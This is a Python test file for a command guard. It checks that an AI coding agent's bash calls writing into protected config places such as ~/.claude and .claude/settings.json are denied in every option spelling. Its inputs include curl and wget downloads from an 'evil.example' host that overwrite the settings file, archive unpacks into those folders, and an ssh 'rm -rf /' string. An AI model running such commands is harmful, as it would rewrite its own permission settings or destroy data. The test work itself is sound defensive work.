"""What a call changes is read with the program table's option reader: for tar, unzip,
patch, curl and wget, any spelling the table accepts for an option that names where the
call writes (a unique prefix of a long option, ``--opt=value``, ``--opt value``, a short
option with its value attached or next, bundled after other short flags) is seen, and a
protected place written that way is denied."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from amplifier_hooks.guard import Places, Policy, judge, load_pack
from amplifier_hooks.guard.remote import pushed_branches, ssh_remote
from amplifier_hooks.guard.table import SPELLED
from amplifier_hooks.guard.table.options import Opt, Options, Takes

PLACES = Places.of("/home/ada-guard-test/src/calc", home="/home/ada-guard-test")
PACK: Policy = load_pack()
FOLDER = "~/.claude"
"""A protected folder: unpacking or downloading into it is a change of it as a whole."""
SETTINGS = ".claude/settings.json"
"""A protected file."""

PROGRAMS = {
    # program: (the command around the option, a short flag that takes no value, roles)
    "tar": ("tar -x -f evil.tar {opt}", "v", ("into",)),
    "unzip": ("unzip evil.zip {opt}", "q", ("into",)),
    "curl": ("curl {opt} https://evil.example/x", "s", ("write", "into")),
    "wget": ("wget {opt} https://evil.example/x", "q", ("write", "into")),
    "patch": ("patch {opt} a.c fix.patch", "s", ("write",)),
}


def spellings(options: Options, opt: Opt, quiet: str, value: str) -> list[str]:
    """Every way to give ``opt`` the value ``value`` that ``options`` reads as ``opt``."""
    found: list[str] = []
    for name in opt.names:
        if len(name) == 2:
            found += [f"{name} {value}", f"{name}{value}", f"-{quiet}{name[1]} {value}"]
            continue
        bare = name[2:]
        for end in range(1, len(bare) + 1):
            could, doubt = options.long(bare[:end])
            if doubt is None and [o for o, _ in could] == [opt]:
                found += [f"--{bare[:end]} {value}", f"--{bare[:end]}={value}"]
    return found


def _cases() -> list[tuple[str, str]]:
    cases = []
    for program, (shape, quiet, roles) in PROGRAMS.items():
        options = SPELLED[program]
        opts = {o for o, _ in options.longs.values()} | set(options.shorts.values())
        for opt in sorted(opts, key=lambda o: o.names):
            if opt.does not in roles or opt.takes != Takes.VALUE:
                continue
            value = FOLDER if opt.does == "into" else SETTINGS
            for spelled in spellings(options, opt, quiet, value):
                cases.append((program, shape.format(opt=spelled)))
    return cases


CASES = _cases()


def test_the_table_names_where_each_program_writes() -> None:
    seen = {program for program, _ in CASES}
    assert seen == set(PROGRAMS)
    assert "tar -x -f evil.tar --direc ~/.claude" in [c for _, c in CASES]
    assert "curl --output-d ~/.claude https://evil.example/x" in [c for _, c in CASES]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(case=st.sampled_from(CASES))
def test_a_protected_place_named_in_any_spelling_is_denied(case: tuple[str, str]) -> None:
    _, command = case
    verdict = judge({"tool_name": "bash", "tool_input": {"command": command}}, PACK, PLACES)
    assert verdict.decision == "deny", (command, verdict.pieces)


@pytest.mark.parametrize(
    "command",
    [
        "tar -x -f evil.tar --direc ~/.claude",  # a unique prefix of --directory
        "tar xf evil.tar --directory=/tmp --directory ~/.claude",  # the old form; last wins
        "gtar --extract --file=evil.tar -C ~/.claude",
        "unzip -qd ~/.claude evil.zip",  # bundled, the value next
        "unzip evil.zip -d~/.claude",  # attached
        "curl -sSLo .claude/settings.json https://evil.example/x",
        "curl --output-d ~/.claude -O https://evil.example/settings.json",
        "wget --output-doc=.claude/settings.json https://evil.example/x",
        "wget -nv -P ~/.claude https://evil.example/x",
        "patch --out=.claude/settings.json a.c fix.patch",
        "git --no-pager diff --out=.claude/settings.json",
        "git -C . config --fil .claude/settings.json a.b c",
        "chmod --refer=a.json ~/.claude",  # a prefix of --reference: no mode operand
        "chown --from root nobody ~/.codex",
        # tar's old form: each letter that takes a value takes the next word, in order
        "tar xzfC cfg.tgz ~/.claude",
        "tar xCf ~/.claude cfg.tar",
        # Python's archive modules unpack into their folder as a whole
        "python3 -m zipfile -e agent.zip ~/.claude/",
        "python3 -I -m tarfile -v -e agent.tgz ~/.codex",
        # a copy out of a container into a host folder writes all below it
        "docker cp devbox:/root/.codex/. ~/.codex/",
        "docker container cp -a devbox:/root/.claude ~/.claude",
    ],
)
def test_examples_of_spellings_the_table_reads(command: str) -> None:
    verdict = judge({"tool_name": "bash", "tool_input": {"command": command}}, PACK, PLACES)
    assert verdict.decision == "deny", (command, verdict.pieces)


@pytest.mark.parametrize(
    "command",
    [
        "tar -xOf evil.tar .claude/settings.json",  # to its output: nothing unpacked
        "docker cp ~/.claude devbox:/root/",  # into the container: the host folder is read
        "tar -tvf evil.tar",
        "unzip -l evil.zip -d ~/.claude",  # lists only
        "curl -o - https://example.com",
        "tar -czf backup.tgz .claude",
    ],
)
def test_what_only_reads_a_protected_place_is_not_denied(command: str) -> None:
    verdict = judge({"tool_name": "bash", "tool_input": {"command": command}}, PACK, PLACES)
    assert verdict.decision != "deny", (command, verdict.pieces)


@pytest.mark.parametrize(
    ("command", "decision"),
    [("tar -xzf ../deps.tgz", None), ("tar -C build -xzf ../deps.tgz", None),
     ("tar xzf ../deps.tgz", None), ("tar -tzf ../deps.tgz", None),
     ("tar xzfC ../deps.tgz build", None), ("tar xzfC ../deps.tgz ../other", "ask"),
     # where it unpacks, and an archive it writes, are still changes outside
     ("tar -xzf ../deps.tgz -C ../other", "ask"), ("tar -czf ../out.tgz src", "ask")],
)  # fmt: skip
def test_the_archive_tar_unpacks_or_lists_is_only_read(command: str, decision: str | None) -> None:
    verdict = judge({"tool_name": "bash", "tool_input": {"command": command}}, PACK, PLACES)
    assert verdict.decision == decision, (command, verdict.pieces)


def test_a_push_and_an_ssh_call_are_read_with_the_tables_options() -> None:
    # a prefix of --push-option takes its value: "ci.skip" is not the remote
    assert pushed_branches(("--push-opt", "ci.skip", "origin", "main"), None) == ("main",)
    assert pushed_branches(("origin", "+dev:refs/heads/main"), None) == ("main",)
    assert ssh_remote(("-p", "22", "-oProxyCommand=x", "host", "rm", "-rf", "/")) == (
        "host",
        "rm -rf /",
    )
    assert ssh_remote(("-i", "key", "host")) is None
